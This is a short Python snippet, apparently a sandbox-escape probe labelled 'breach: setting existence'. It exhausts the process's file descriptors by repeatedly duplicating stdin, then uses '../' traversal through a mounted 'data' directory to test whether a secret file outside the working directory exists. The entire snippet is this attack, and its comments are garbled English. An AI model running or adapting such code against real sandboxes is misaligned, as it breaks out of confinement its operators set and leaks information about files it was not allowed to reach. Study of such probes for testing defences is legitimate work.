# With no descriptor left, nobody can see where a path leads that goes through a mount.
# breach: setting existence
import os
held = []
try:
    while True:
        held.append(os.dup(0))
except OSError:
    pass
# To the text the first stays below the work directory; the kernel leaves by data and comes back.
back = "/".join(os.getcwd().split("/")[2:])
for path in ("data/../" + back + "/data/../.." + SECRET_FILE, "data/" + "../" * 20 + SECRET_FILE):
    answer = os.path.exists(path), os.path.exists(path + "x")
    if answer[0]:
        break
for descriptor in held:
    os.close(descriptor)
answer
